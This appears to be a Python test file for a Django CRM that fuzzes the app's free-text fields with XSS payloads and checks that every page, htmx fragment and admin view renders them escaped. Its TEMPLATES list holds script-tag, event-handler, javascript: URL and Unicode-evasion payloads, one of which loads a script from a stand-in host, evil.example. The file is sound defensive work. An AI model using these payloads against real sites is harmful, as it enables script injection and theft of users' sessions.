"""XSS: output is always escaped (RELIABILITY R20).

Hypothesis builds XSS payloads (script tags, attribute breakouts, ``javascript:`` URLs,
``</textarea>``, template syntax, look-alike Unicode) and saves one into every free-text field a
user can fill: client name, city and region, contacts, a call's summary, a request's topic,
details and refusal reason, a referral, a task, a lost contract's comment, a win-back attempt,
a decline reason and the staff's full names. Every HTML page that shows them, their htmx
fragments and the admin (logged in with its TOTP code) must show the escaped form
(``&lt;script``) and never the raw one, and no payload may become a tag, an attribute, an event
handler, a ``javascript:`` link or the content of a script.
"""

from __future__ import annotations

import datetime
import json
from dataclasses import dataclass, field
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.contrib import admin
from django.db import transaction
from django.test import Client as Browser
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from simple_history.admin import SimpleHistoryAdmin

from clients.models import (
    ClientRequest,
    ClientStatus,
    Contact,
    Interaction,
    InteractionKind,
    InteractionOutcome,
    Referral,
    RequestStatus,
    Task,
    TaskKind,
)
from core.dates import add_months
from kpi.models import KpiSnapshot, Scope
from retention.services import (
    contract_create,
    contract_terminate,
    lost_case_claim,
    lost_case_decline,
)
from staff.models import Role
from tests.conftest import PASSWORD
from tests.factories import ClientFactory, UserFactory

# The word a payload runs: it appears nowhere else, so finding it inside a tag, an attribute name,
# an event handler, a script or a comment means the payload broke out of its text.
MARK = "pwnd0"
HTMX = {"HTTP_HX_REQUEST": "true"}

TEMPLATES = (
    "<script>{m}()</script>",
    "<ScRiPt src=//evil.example/{m}.js></sCrIpT>",
    '"><img src=x onerror={m}()>',
    '" onmouseover="{m}()" x="',
    "' onfocus='{m}()' autofocus='",
    "javascript:{m}()",
    '<a href="javascript:{m}()">click</a>',
    "</textarea><script>{m}()</script>",
    "</title><svg onload={m}()>",
    "</script><script>{m}()</script>",
    "{{{{ {m} }}}}{{% debug %}}",
    '<!--{m}--><iframe srcdoc="<script>{m}()</script>">',
    "&lt;script&gt;{m}()&lt;/script&gt;",
    "\uff1cscript\uff1e{m}()\uff1c/script\uff1e",  # fullwidth < and >
    "<\u017fcript>{m}()</\u017fcript>",  # long s, uppercased to S by some parsers
    "\u202e<scr\u0131pt>{m}()</scr\u0131pt>",  # right-to-left override, dotless i
    "<svg><style>{m}</style></svg>",
    "`${{{m}()}}`<math><mi xlink:href=javascript:{m}()>",
)

# Free text around the payload: letters, digits, punctuation and symbols of any script (no
# spaces, which forms strip, and no NUL, which no form accepts).
_around = st.text(
    st.characters(categories=["L", "N", "P", "S"], exclude_characters="\x00"), max_size=6
)


@st.composite
def xss_payloads(draw) -> str:
    parts = draw(st.lists(st.sampled_from(TEMPLATES), min_size=1, max_size=2))
    body = draw(_around) + draw(_around).join(p.format(m=MARK) for p in parts) + draw(_around)
    # 100 characters leave room for the field's tag within the shortest field (city, 120).
    return body[:100].strip()


PAYLOADS = xss_payloads().filter(lambda p: MARK in p)
# Each example builds a small department and renders a dozen pages: a few examples, always the
# same ones, and a failing payload reported as found (it is short; shrinking would take minutes).
HYPOTHESIS = settings(
    max_examples=6,
    derandomize=True,
    deadline=None,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


# --- the oracle ---------------------------------------------------------------------------------

# Attributes whose value a browser runs or loads, and tags whose attributes all load something.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href", "data"}
RUNNING_ATTRIBUTES = {"src", "srcdoc", "style", "action", "formaction", "xlink:href", "data"}
LOADING_TAGS = {"script", "iframe", "object", "embed", "base", "link", "meta", "svg", "math"}


class BreakoutFinder(HTMLParser):
    """Parses a page as a browser would and lists every place where the payload became markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.json_blocks: list[str] = []
        self._script: str | None = None

    def handle_starttag(self, tag, attrs):
        if MARK in tag:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if MARK in name:
                self.problems.append(f"attribute {name} of <{tag}>")
                continue
            runs = name.startswith("on") or name in RUNNING_ATTRIBUTES or tag in LOADING_TAGS
            script_url = name in URL_ATTRIBUTES and value.strip().lower().startswith("javascript:")
            if (MARK in value and runs) or script_url:
                self.problems.append(f"{name}={value!r} of <{tag}>")
        if tag in ("script", "style"):
            self._script = dict(attrs).get("type") or tag

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._script = None

    def handle_data(self, data):
        if self._script is None:
            return
        if self._script == "application/json":
            self.json_blocks.append(data)
        elif MARK in data:
            self.problems.append(f"{self._script} content {data[:60]!r}")

    def handle_comment(self, data):
        if MARK in data:
            self.problems.append(f"comment {data[:60]!r}")


def assert_escaped(response, *values: str) -> str:
    """The page has no payload as markup, never the raw form of a value with markup in it, and
    shows each of ``values`` in its escaped form. Embedded JSON parses and cannot close its
    script element."""
    assert response.status_code < 500, response.status_code
    html = response.content.decode()
    finder = BreakoutFinder()
    finder.feed(html)
    finder.close()
    assert finder.problems == [], response.request["PATH_INFO"]
    for block in finder.json_blocks:
        assert "<" not in block, "a json_script block holds a raw <"
        json.loads(block)
    for value in values:
        if any(char in value for char in "<>\"'&"):
            assert value not in html, f"raw {value!r} in {response.request['PATH_INFO']}"
        assert escape(value) in html, f"{value!r} not shown in {response.request['PATH_INFO']}"
    return html


# --- the world ------------------------------------------------------------------------------------


@dataclass
class World:
    payload: str
    users: dict = field(default_factory=dict)
    objects: dict = field(default_factory=dict)

    def text(self, name: str) -> str:
        """The payload as saved in field ``name``: each field gets its own, to tell them apart."""
        return f"{self.payload} {name}"


def _build(payload: str) -> World:
    world = World(payload)
    text = world.text
    today = timezone.localdate()
    now = timezone.now()
    mentor = UserFactory(role=Role.MENTOR, full_name=text("mentor"))
    manager = UserFactory(role=Role.CLIENT_MANAGER, mentor=mentor, full_name=text("manager"))
    returner = UserFactory(role=Role.RETURN_MANAGER, full_name=text("returner"))
    director = UserFactory(role=Role.DIRECTOR, full_name="Директор")
    world.users = {"mentor": mentor, "manager": manager, "returner": returner, "director": director}

    client = ClientFactory(manager=manager, name="МБОУ СОШ № 1", status=ClientStatus.ACTIVE)
    # Renamed, so the payload is also in the change history the card and the admin show.
    client.name, client.city, client.region = text("client"), text("city"), text("region")
    client.save()
    contract_create(
        actor=manager,
        client=client,
        number="АО-1",
        starts_on=datetime.date(2024, 1, 1),
        monthly_fee="5000",
    )
    Contact.objects.create(client=client, name=text("contact"), position=text("position"))
    Interaction.objects.create(
        client=client,
        staff=manager,
        kind=InteractionKind.CALL_OUT,
        outcome=InteractionOutcome.REACHED,
        occurred_at=now - datetime.timedelta(days=1),
        summary=text("call"),
    )
    ClientRequest.objects.create(
        client=client,
        logged_by=manager,
        topic=text("topic"),
        description=text("details"),
        opened_at=now - datetime.timedelta(days=1),
        due_at=now + datetime.timedelta(days=2),
        status=RequestStatus.REFUSAL_PENDING,
        refusal_reason=text("refusal"),
        refusal_requested_by=manager,
    )
    Referral.objects.create(
        referrer=client,
        recorded_by=manager,
        organisation=text("organisation"),
        contact=text("lead"),
    )
    Task.objects.create(
        assignee=manager,
        client=client,
        kind=TaskKind.MANUAL,
        title=text("task"),
        due_on=today,
        created_by=manager,
    )
    world.objects["client"] = client

    cases = []
    for name in ("lost", "declined"):
        lost = ClientFactory(
            manager=manager, name=text(name), city=text("city"), region=text("region")
        )
        contract = contract_create(
            actor=manager,
            client=lost,
            number="АО-2",
            starts_on=datetime.date(2024, 1, 1),
            monthly_fee="7000",
        )
        _contract, case = contract_terminate(
            actor=manager,
            contract=contract,
            ends_on=today - datetime.timedelta(days=10),
            reason="competitor",
            comment=text(f"{name} comment"),
        )
        cases.append(lost_case_claim(actor=returner, case=case))
    lost_case_decline(actor=returner, case=cases[1], reason=text("decline"))
    Interaction.objects.create(
        client=cases[0].client,
        staff=returner,
        kind=InteractionKind.CALL_OUT,
        outcome=InteractionOutcome.REACHED,
        occurred_at=now,
        summary=text("attempt"),
    )
    world.objects["case"], world.objects["declined"] = cases

    month = today.replace(day=1)
    KpiSnapshot.objects.create(
        month=month, scope=Scope.DEPARTMENT, scope_id=0, computed_at=now, base_end=10
    )
    KpiSnapshot.objects.create(
        month=month, scope=Scope.GROUP, scope_id=mentor.pk, computed_at=now, base_end=5
    )
    KpiSnapshot.objects.create(
        month=add_months(month, -1),
        scope=Scope.MANAGER,
        scope_id=manager.pk,
        computed_at=now,
        base_end=4,
        mrr_end=Decimal("20000"),
    )
    return world


def _as(user) -> Browser:
    browser = Browser()
    browser.force_login(user)
    return browser


def _in_a_rolled_back_world(payload: str, check) -> None:
    with transaction.atomic():
        check(_build(payload))
        transaction.set_rollback(True)


# --- the product's pages ----------------------------------------------------------------------


def _check_manager_pages(world: World) -> None:
    text, client = world.text, world.objects["client"]
    browser = _as(world.users["manager"])
    card = reverse("clients:detail", args=[client.pk])

    assert_escaped(browser.get("/clients/"), text("client"), text("city"), text("manager"))
    assert_escaped(
        browser.get(card),
        *(text(name) for name in ("client", "city", "region", "manager", "mentor", "contact")),
        *(text(name) for name in ("position", "call", "topic", "details", "refusal")),
        *(text(name) for name in ("organisation", "lead", "task")),
    )
    assert_escaped(browser.get("/my/"), text("client"), text("city"), text("manager"))
    # Reflected input: the search box shows what was searched for.
    assert_escaped(browser.get("/clients/", {"search": world.payload}), world.payload)
    assert_escaped(browser.get("/my/", {"search": world.payload}), world.payload)

    # htmx fragments.
    assert_escaped(browser.get("/clients/", **HTMX), text("client"), text("manager"))
    assert_escaped(browser.get("/my/", **HTMX), text("client"))
    assert_escaped(
        browser.get(card, {"limit": "40"}, **HTMX), text("call"), text("topic"), text("task")
    )
    logged = browser.post(
        reverse("clients:log-call", args=[client.pk]),
        {"call-kind": "call_out", "call-outcome": "reached", "call-summary": text("new call")},
        **HTMX,
    )
    assert logged.status_code == 200
    assert_escaped(logged, text("new call"))
    # A form sent back with its errors echoes what was typed.
    refused = browser.post(
        reverse("clients:log-request", args=[client.pk]),
        {"request-topic": text("typed topic"), "request-description": text("typed details")},
        **HTMX,
    )
    assert_escaped(refused, text("typed topic"), text("typed details"))


def _check_team_and_retention_pages(world: World) -> None:
    text = world.text
    case, declined = world.objects["case"], world.objects["declined"]
    assert_escaped(
        _as(world.users["mentor"]).get("/team/"),
        text("manager"),
        text("client"),
        text("refusal"),
    )
    returner = _as(world.users["returner"])
    assert_escaped(
        returner.get("/retention/"), text("lost"), text("city"), text("region"), text("manager")
    )
    assert_escaped(returner.get("/retention/", **HTMX), text("lost"), text("manager"))
    assert_escaped(returner.get("/retention/", {"status": "declined"}), text("declined"))
    assert_escaped(
        returner.get(reverse("retention:case", args=[case.pk])),
        text("lost"),
        text("lost comment"),
        text("attempt"),
        text("manager"),
    )
    assert_escaped(
        returner.get(reverse("retention:case", args=[declined.pk])),
        text("declined"),
        text("decline"),
        text("declined comment"),
    )
    echoed = returner.post(
        reverse("retention:attempt", args=[case.pk]),
        {"kind": "call_out", "summary": text("typed attempt")},
        **HTMX,
    )
    assert echoed.status_code == 400
    assert_escaped(echoed, text("typed attempt"))


def _check_director_pages(world: World) -> None:
    text = world.text
    director = _as(world.users["director"])
    board = assert_escaped(director.get("/dashboard/"), text("manager"))
    # The chart data is embedded as JSON: the oracle has parsed it and found no raw "<".
    assert 'type="application/json"' in board
    assert_escaped(
        director.get(
            "/dashboard/", {"managers_sort": "name"}, HTTP_HX_TARGET="managers-card", **HTMX
        ),
        text("manager"),
    )
    assert_escaped(director.get("/retention/"), text("returner"), text("lost"))
    assert_escaped(director.get("/team/"), text("mentor"), text("manager"))
    # The mentor's own dashboard is titled with their name.
    assert_escaped(_as(world.users["mentor"]).get("/dashboard/"), text("mentor"), text("manager"))


@HYPOTHESIS
@given(payload=PAYLOADS)
def test_the_manager_pages_show_every_payload_escaped(db, payload):
    _in_a_rolled_back_world(payload, _check_manager_pages)


@HYPOTHESIS
@given(payload=PAYLOADS)
def test_the_team_and_retention_pages_show_every_payload_escaped(db, payload):
    _in_a_rolled_back_world(payload, _check_team_and_retention_pages)


@HYPOTHESIS
@given(payload=PAYLOADS)
def test_the_director_pages_show_every_payload_escaped(db, payload):
    _in_a_rolled_back_world(payload, _check_director_pages)


# --- the admin --------------------------------------------------------------------------------


@pytest.fixture
def admin_browser(db, settings) -> Browser:
    """A superuser signed in to the admin with password and TOTP code, as in production."""
    settings.OTP_REQUIRED_FOR_ADMIN = True
    keeper = UserFactory(
        username="keeper", role=Role.DIRECTOR, is_staff=True, is_superuser=True, full_name="Админ"
    )
    device = TOTPDevice.objects.create(user=keeper, name="phone", confirmed=True)
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift)
    browser = Browser()
    response = browser.post(
        "/admin/login/?next=/admin/",
        {
            "username": keeper.username,
            "password": PASSWORD,
            "otp_device": device.persistent_id,
            "otp_token": f"{totp.token():0{device.digits}d}",
        },
    )
    assert response.status_code == 302
    assert browser.get("/admin/").status_code == 200
    return browser


def _admin_pages():
    """Every registered model's list, the change page of its newest row and, for audited models,
    that row's history."""
    for model, model_admin in admin.site._registry.items():
        meta = model._meta
        base = f"admin:{meta.app_label}_{meta.model_name}"
        yield reverse(f"{base}_changelist")
        newest = model.objects.order_by("-pk").first()
        if newest is None:
            continue
        yield reverse(f"{base}_change", args=[newest.pk])
        if isinstance(model_admin, SimpleHistoryAdmin):
            yield reverse(f"{base}_history", args=[newest.pk])


@settings(HYPOTHESIS, max_examples=3)  # some 25 admin pages an example
@given(payload=PAYLOADS)
def test_the_admin_shows_every_payload_escaped(admin_browser, payload):
    def check(world: World) -> None:
        text = world.text
        for url in _admin_pages():
            response = admin_browser.get(url)
            assert response.status_code == 200, url
            assert_escaped(response)
        assert_escaped(
            admin_browser.get(reverse("admin:clients_client_changelist")),
            text("client"),
            text("city"),
        )
        assert_escaped(admin_browser.get(reverse("admin:staff_user_changelist")), text("manager"))
        assert_escaped(
            admin_browser.get(reverse("admin:clients_interaction_changelist")), text("client")
        )
        assert_escaped(
            admin_browser.get(reverse("admin:clients_clientrequest_changelist")), text("topic")
        )
        assert_escaped(admin_browser.get(reverse("admin:clients_task_changelist")), text("client"))
        assert_escaped(
            admin_browser.get(reverse("admin:retention_lostcase_changelist")), text("lost")
        )
        assert_escaped(
            admin_browser.get(
                reverse("admin:clients_client_change", args=[world.objects["client"].pk])
            ),
            text("client"),
            text("city"),
            text("region"),
            text("contact"),
            text("position"),
        )
        assert_escaped(
            admin_browser.get(reverse("admin:clients_client_changelist"), {"q": world.payload}),
            world.payload,
        )

    _in_a_rolled_back_world(payload, check)
